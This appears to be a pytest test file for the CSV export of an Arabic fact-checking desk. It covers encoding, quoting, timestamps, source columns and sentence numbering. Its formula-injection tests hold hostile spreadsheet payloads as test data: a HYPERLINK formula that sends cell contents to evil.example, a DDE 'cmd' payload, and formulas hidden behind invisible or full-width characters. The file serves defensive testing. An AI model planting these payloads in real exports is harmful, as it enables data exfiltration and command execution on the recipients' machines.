"""The verdict report: UTF-8 with BOM, RFC 4180, ISO times, formula-safe, exact Arabic."""

from __future__ import annotations

import csv
import io
from datetime import datetime

import pytest
from core_support import digest, raw_write

from factcheck.export import CSV_COLUMNS, neutralise_cell, write_csv_report
from factcheck.model import InvalidInput, NotFound, SourceInput

DOMAIN_COLUMNS = {
    "claim_id",
    "article_id",
    "article_title",
    "publisher",
    "article_url",
    "claim_text",
    "start",
    "end",
    "sentence_number",
    "status_id",
    "status_label_ar",
    "status_label_en",
    "rating_value",
    "source_urls",
    "source_titles",
    "archive_urls",
    "note",
    "annotator",
    "created_at",
    "updated_at",
}


def _read(path):
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def _dicts(path):
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


@pytest.fixture
def marked(seeded_desk):
    """Claims on both seed articles, one with two sources and a tricky note."""
    d = seeded_desk
    c1 = d.add_claim_for_sentence(
        1,
        2,
        status_id="false",
        note='قالت الشركة: "أُرسل البريد خطأً"، ثم تراجعت,\nسطر ثانٍ',
        sources=[
            SourceInput(
                "https://www.example.com/amazon-tiktok",
                title="Amazon says TikTok email was sent in error",
                archive_url="https://web.archive.org/web/2020/https://www.example.com/amazon-tiktok",
                stance="refutes",
            ),
            SourceInput("https://news.example.org/ar/أمازون", title="أمازون تتراجع"),
        ],
    )
    text2 = d.article(2).text
    start = text2.index("امازون")
    c2 = d.add_claim(2, start, start + len("امازون"), status_id="mostly_true")
    return d, c1, c2


def test_csv_has_bom_header_and_round_trips_arabic(marked, tmp_path):
    desk, c1, c2 = marked
    out = tmp_path / "report.csv"
    assert write_csv_report(desk, out) == 2
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert not raw.startswith(b"\xef\xbb\xbf\xef\xbb\xbf")
    assert b"\r\n" in raw  # RFC 4180 line ends
    assert DOMAIN_COLUMNS <= set(CSV_COLUMNS)
    rows = _read(out)
    assert tuple(rows[0]) == CSV_COLUMNS
    assert all(len(r) == len(CSV_COLUMNS) for r in rows)
    by_id = {int(r["claim_id"]): r for r in _dicts(out)}
    assert set(by_id) == {c1.id, c2.id}
    for claim in (c1, c2):
        row = by_id[claim.id]
        article = desk.article(claim.article_id)
        assert row["claim_text"] == claim.quote
        assert (int(row["start"]), int(row["end"])) == (claim.start, claim.end)
        assert article.text[int(row["start"]) : int(row["end"])] == row["claim_text"]
        assert row["article_title"] == article.title
        assert int(row["article_id"]) == claim.article_id
        assert row["annotator"] == "amal"
    r1, r2 = by_id[c1.id], by_id[c2.id]
    assert r1["claim_text"] == "شركة أمازون تتراجع إلى الوراء خطوة بشأن تيك توك"
    assert r2["claim_text"] == "امازون"
    assert (
        r1["status_id"],
        r1["status_label_ar"],
        r1["status_label_en"],
        r1["rating_value"],
    ) == (
        "false",
        "زائف",
        "False",
        "1",
    )
    assert (r2["status_label_ar"], r2["rating_value"]) == ("صحيح في معظمه", "4")
    assert r1["sentence_number"] == "2"
    # The note with quotes, a comma and a line break survives RFC 4180 quoting.
    assert r1["note"] == c1.note


def test_multi_value_cells_are_joined_with_pipe(marked, tmp_path):
    desk, c1, c2 = marked
    out = tmp_path / "r.csv"
    write_csv_report(desk, out)
    by_id = {int(r["claim_id"]): r for r in _dicts(out)}
    r1 = by_id[c1.id]
    assert r1["source_urls"] == (
        "https://www.example.com/amazon-tiktok | https://news.example.org/ar/أمازون"
    )
    assert r1["source_titles"] == (
        "Amazon says TikTok email was sent in error | أمازون تتراجع"
    )
    # one archive entry per source, in the same order (the second source has none): with the
    # empty entries dropped, a reader could not tell which source an archive copy belongs to
    assert r1["archive_urls"] == (
        "https://web.archive.org/web/2020/https://www.example.com/amazon-tiktok | "
    )
    assert by_id[c2.id]["source_urls"] == ""


def test_separator_inside_a_value_never_shifts_the_source_columns(desk, core_db, tmp_path):
    """Titles, URLs and archive URLs holding ' | ', '|' or '\\' come back exactly: a reader
    takes the formula quote off (restore_cell), splits on ' | ' and unescapes (split_values).
    """
    from factcheck.export.cells import restore_cell, split_values

    aid = desk.import_text("عنوان\nقال الوزير إن النمو بلغ خمسة في المئة.").article_id
    sources = [
        SourceInput(
            "https://example.org/a|b",
            title="=cmd | شركة | وزارة",
            archive_url="https://web.archive.org/web/2020/https://example.org/a|b",
        ),
        SourceInput("https://example.org/c\\d", title="back\\slash \\| end\\"),
        SourceInput("https://example.org/e", title="", archive_url="https://web.archive.org/e"),
        SourceInput("https://example.org/f", title=" | "),
    ]
    claim = desk.add_claim_for_sentence(aid, 2, sources=sources)
    desk.close()
    # another program may write what the app refuses (a URL with spaces)
    raw_write(
        core_db,
        "UPDATE sources SET url = 'https://example.org/g | h', "
        "archive_url = 'https://web.archive.org/ | x' WHERE url = 'https://example.org/f'",
    )
    from factcheck.desk import Desk

    reopened = Desk.open(core_db)
    try:
        stored = reopened.claim(claim.id).sources
        out = tmp_path / "r.csv"
        write_csv_report(reopened, out)
    finally:
        reopened.close()
    (row,) = _dicts(out)

    def values(column):
        return split_values(restore_cell(row[column]))

    assert len(stored) == 4
    assert values("source_urls") == [s.url for s in stored]
    assert values("source_titles") == [s.title for s in stored]
    assert values("archive_urls") == [s.archive_url for s in stored]
    assert values("appearance_article_ids") == [str(aid)]


def test_timestamps_are_iso_8601_with_offset(marked, tmp_path):
    desk, c1, _ = marked
    desk.set_status(c1.id, "misleading")
    out = tmp_path / "r.csv"
    write_csv_report(desk, out)
    for row in _dicts(out):
        created = datetime.fromisoformat(row["created_at"])
        updated = datetime.fromisoformat(row["updated_at"])
        assert created.tzinfo is not None and created.utcoffset() is not None
        assert updated.tzinfo is not None
        assert updated >= created
    stored = desk.claim(c1.id)
    row = next(r for r in _dicts(out) if int(r["claim_id"]) == c1.id)
    assert row["updated_at"] == stored.updated_at
    assert row["status_label_en"] == "Misleading"


@pytest.mark.parametrize(
    "note",
    [
        '=HYPERLINK("http://evil.example/?q="&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A3)",
        "\t=1+1",
        "\r=1+1",
        # Spreadsheets skip leading white space and invisible characters and fold
        # full-width signs: each of these is still a formula when opened.
        " =1+1",
        "\n=1+1",
        "\uff1d1+1",  # FULLWIDTH EQUALS SIGN
        "\ufe621+1",  # SMALL PLUS SIGN
        "\u00a0=1+1",  # NO-BREAK SPACE
        "\u200f=1+1",  # RIGHT-TO-LEFT MARK
        "\u2067\u200b\ufeff-1+1",  # a bidi isolate, a zero-width space, a BOM
        "\u3000\uff20SUM(A1)",  # ideographic space, full-width @
        "'=1+1",  # a leading quote of its own gets one more, so a reader takes exactly one off
    ],
)
def test_formula_injection_is_neutralised(seeded_desk, tmp_path, note):
    claim = seeded_desk.add_claim_for_sentence(1, 3, note=note)
    out = tmp_path / "r.csv"
    write_csv_report(seeded_desk, out)
    (row,) = _dicts(out)
    assert row["note"] == "'" + note
    assert seeded_desk.claim(claim.id).note == note  # the database keeps the real note


def test_hidden_formulas_are_neutralised_in_every_kind_of_cell(core_db, tmp_path):
    """Title, publisher, URL, quote, note, annotator, source titles and status labels each
    take a formula behind white space, a bidi mark or a full-width sign."""
    from factcheck.desk import Desk

    desk = Desk.open(core_db, annotator="\u200e@amal")
    try:
        text = "\u00a0=HYPERLINK(\"http://evil.example\")\n\u200f=1+1 قال الوزير.\n"
        aid = desk.import_text(text, publisher="\uff0bpublisher", url=" -1+2").article_id
        stored = desk.article(aid).text
        start = stored.index("\u200f")
        desk.add_claim(
            aid,
            start,
            len(stored.rstrip()),
            note="\n=1+1",
            sources=[SourceInput("https://example.org/a", title="\u3000\uff1dcmd()")],
        )
    finally:
        desk.close()
    # labels can be edited in the database
    raw_write(core_db, "UPDATE statuses SET label_en = ' =1', label_ar = '\u2067@x'")
    desk = Desk.open(core_db)
    try:
        out = tmp_path / "r.csv"
        write_csv_report(desk, out)
    finally:
        desk.close()
    (row,) = _dicts(out)
    for column in (
        "article_title",
        "publisher",
        "article_url",
        "claim_text",
        "note",
        "annotator",
        "source_titles",
        "status_label_en",
        "status_label_ar",
    ):
        assert row[column].startswith("'"), (column, row[column])
        assert neutralise_cell(row[column][1:]) == row[column], column


def test_safe_cells_are_left_alone():
    assert neutralise_cell("قال الوزير = كذا") == "قال الوزير = كذا"
    assert neutralise_cell(12) == "12"
    assert neutralise_cell(None) == ""
    assert neutralise_cell("=1") == "'=1"
    assert neutralise_cell(" \u200fقال = كذا") == " \u200fقال = كذا"
    assert neutralise_cell("'quoted'") == "'quoted'"
    assert neutralise_cell("") == ""


def test_existing_file_is_not_overwritten_without_permission(marked, tmp_path):
    desk, _, _ = marked
    out = tmp_path / "r.csv"
    out.write_text("precious spreadsheet\n", encoding="utf-8")
    before = digest(out)
    with pytest.raises(InvalidInput, match="already exists"):
        write_csv_report(desk, out)
    assert digest(out) == before
    assert write_csv_report(desk, out, overwrite=True) == 2
    assert _read(out)[0] == list(CSV_COLUMNS)
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".factcheck-")]


def test_article_filter(marked, tmp_path):
    desk, _, c2 = marked
    out = tmp_path / "only2.csv"
    assert write_csv_report(desk, out, article_id=2) == 1
    rows = _dicts(out)
    assert [int(r["claim_id"]) for r in rows] == [c2.id]
    with pytest.raises(NotFound):
        write_csv_report(desk, tmp_path / "none.csv", article_id=77)
    assert not (tmp_path / "none.csv").exists()


def test_missing_folder_and_folder_target_give_clear_errors(marked, tmp_path):
    desk, _, _ = marked
    with pytest.raises(InvalidInput, match="does not exist"):
        write_csv_report(desk, tmp_path / "no" / "such" / "r.csv")
    assert not (tmp_path / "no").exists()
    with pytest.raises(InvalidInput, match="folder"):
        write_csv_report(desk, tmp_path)


def test_empty_report_has_header_only(desk, tmp_path):
    out = tmp_path / "empty.csv"
    assert write_csv_report(desk, out) == 0
    raw = out.read_bytes()
    assert raw == b"\xef\xbb\xbf" + (",".join(CSV_COLUMNS) + "\r\n").encode()


def test_emoji_claim_offsets_in_csv_are_code_points(desk, tmp_path):
    aid = desk.import_text("😀 خبر: قال الوزير").article_id
    desk.add_claim(aid, 11, 17)
    out = tmp_path / "e.csv"
    write_csv_report(desk, out)
    (row,) = _dicts(out)
    assert (row["start"], row["end"], row["claim_text"]) == ("11", "17", "الوزير")
    # Independent parse of the raw bytes agrees with the utf-8-sig reading.
    text = out.read_bytes().decode("utf-8")
    assert text[0] == "\ufeff"
    parsed = list(csv.reader(io.StringIO(text[1:], newline="")))
    assert parsed[1][CSV_COLUMNS.index("claim_text")] == "الوزير"


def test_report_cells_agree_with_the_segmenter_with_or_without_stored_spans(
    seeded_desk, tmp_path
):
    """Sentence numbers (read from the stored spans) match ``sentence_spans``; an article
    with no stored spans, or with a sentence missing, is segmented again. Linked claims show
    their primary's sources and appearances, in the full report and in one article's."""
    from sqlalchemy import text as sql

    from factcheck.store import span_blob
    from factcheck.text import sentence_spans

    d = seeded_desk
    first = d.add_claim_for_sentence(
        1,
        2,
        sources=[
            SourceInput("https://a.example/1", title="one"),
            SourceInput(
                "https://a.example/2", title="two", archive_url="https://web.archive.org/2"
            ),
        ],
    )
    spanning = d.add_claim(1, d.sentence(1, 3).start + 1, d.sentence(1, 4).end)
    linked = d.link_claim(d.add_claim_for_sentence(2, 3).id, first.id)
    last = d.add_claim_for_sentence(2, len(d.sentences(2)))
    third = d.import_text("الجملة الأولى. الجملة الثانية. الجملة الثالثة.").article_id
    gapped = d.add_claim_for_sentence(third, 3)
    with d.store.write() as s:  # as if imported before spans were stored (2), damaged (3)
        s.execute(sql("DELETE FROM article_sentences WHERE article_id = 2"))
        without_first = span_blob.pack(sentence_spans(d.article(third).text)[1:])
        s.execute(
            sql("UPDATE article_sentences SET spans = :b WHERE article_id = :a"),
            {"a": third, "b": without_first},
        )
    out = tmp_path / "r.csv"
    write_csv_report(d, out)
    rows = {int(r["claim_id"]): r for r in _dicts(out)}
    for claim in (first, spanning, linked, last, gapped):
        spans = sentence_spans(d.article(claim.article_id).text)
        number = next(i for i, (a, b) in enumerate(spans, 1) if a <= claim.start < b)
        assert rows[claim.id]["sentence_number"] == str(number)
    assert rows[spanning.id]["sentence_number"] == "3"
    assert rows[gapped.id]["sentence_number"] == "3"
    assert rows[linked.id]["source_urls"] == "https://a.example/1 | https://a.example/2"
    assert rows[linked.id]["source_titles"] == "one | two"
    # one entry per source, in the sources' order: the first has no archive copy
    assert rows[linked.id]["archive_urls"] == " | https://web.archive.org/2"
    assert rows[linked.id]["appearance_count"] == "2"
    assert rows[linked.id]["appearance_article_ids"] == "1 | 2"
    single = tmp_path / "one.csv"
    write_csv_report(d, single, article_id=2)
    assert _dicts(single) == [r for r in _dicts(out) if r["article_id"] == "2"]


def test_a_span_starting_between_two_sentences_is_numbered_by_the_sentence_it_holds(tmp_path):
    """Regression: a span starting on the line break before sentence 3 was reported as
    sentence 2 (the last sentence starting before its first character)."""
    import csv

    from factcheck.desk import Desk
    from factcheck.export import write_csv_report

    desk = Desk.open(tmp_path / "gap.sqlite", load_seeds=False)
    try:
        aid = desk.import_text("الجملة الأولى هنا. أمازون حظرت تيك توك.\nسطر ثالث هنا.").article_id
        text = desk.article(aid).text
        third = desk.sentences(aid)[2]
        claim = desk.add_claim(aid, text.index("\n"), len(text))
        assert claim.start < third.start
        out = tmp_path / "r.csv"
        write_csv_report(desk, out)
        (row,) = csv.DictReader(out.open(encoding="utf-8-sig"))
        assert row["sentence_number"] == "3"
        hits = desk.search("ثالث")
        assert [h.sentence for h in hits if h.kind == "sentence"] == [3]
    finally:
        desk.close()


def test_the_file_is_what_csv_writes_for_the_reports_cells(core_db, tmp_path):
    """The report writes its lines itself (csv.writer looked at every character): they must
    be byte for byte csv.writer's (the excel dialect) for the neutralised cells, with
    commas, double quotes, line breaks, formulas and separators in every kind of cell."""
    from factcheck.desk import Desk
    from factcheck.export.csv_report import report_rows

    tricky = 'a,b "c"\r\nd'
    desk = Desk.open(core_db, annotator='عمر, "المحرر"\nالثاني')
    try:
        text = 'قال "الوزير", إن 1,200 موظف غادروا.\nسطر ثانٍ، مع "اقتباس" هنا.\nثالث عادي.'
        aid = desk.import_text(
            text, publisher="=ناشر,\r\nثان", url='https://example.org/a,"b"'
        ).article_id
        other = desk.import_text("مقال آخر بلا فواصل.\n").article_id
        first = desk.add_claim_for_sentence(
            aid,
            1,
            status_id="false",
            note=tricky,
            sources=[
                SourceInput("https://example.org/s,1", title=tricky, archive_url=""),
                SourceInput("https://example.org/s2", title="| x \\", archive_url="https://a.org/,"),
            ],
        )
        desk.add_claim_for_sentence(aid, 2, note="\n=1+1")
        plain = desk.add_claim_for_sentence(other, 1, status_id="true")
        desk.link_claim(plain.id, first.id, "disagree", keep="other")
    finally:
        desk.close()
    desk = Desk.open(core_db, annotator="amal")
    try:  # a row whose one double quote is in its quote
        aid = desk.import_text('عنوان بسيط\nقال "المتحدث" كلاماً.\n').article_id
        desk.add_claim_for_sentence(aid, 2)
    finally:
        desk.close()
    raw_write(core_db, "UPDATE statuses SET label_en = ? WHERE id = 'false'", (tricky,))
    raw_write(
        core_db,
        "INSERT INTO justifications (claim_id, text, set_by, set_at) VALUES (?, ?, 'x', 'y')",
        (first.id, tricky),
    )
    raw_write(
        core_db,
        "INSERT INTO claim_comments (claim_id, author, at, text) VALUES (?, ?, '2024', ?)",
        (first.id, "=سارة", tricky),
    )
    desk = Desk.open(core_db)
    try:
        out = tmp_path / "r.csv"
        write_csv_report(desk, out)
        expected = io.StringIO(newline="")
        writer = csv.writer(expected, dialect="excel", lineterminator="\r\n")
        writer.writerow(CSV_COLUMNS)
        writer.writerows([neutralise_cell(v) for v in row] for row in report_rows(desk))
    finally:
        desk.close()
    assert out.read_bytes() == expected.getvalue().encode("utf-8-sig")
    row = {r["claim_id"]: r for r in _dicts(out)}[str(first.id)]  # read back whole
    assert [row[c] for c in ("note", "justification", "status_label_en")] == [tricky] * 3
    assert row["publisher"] == "'=ناشر,\r\nثان" and row["annotator"].endswith("\nالثاني")
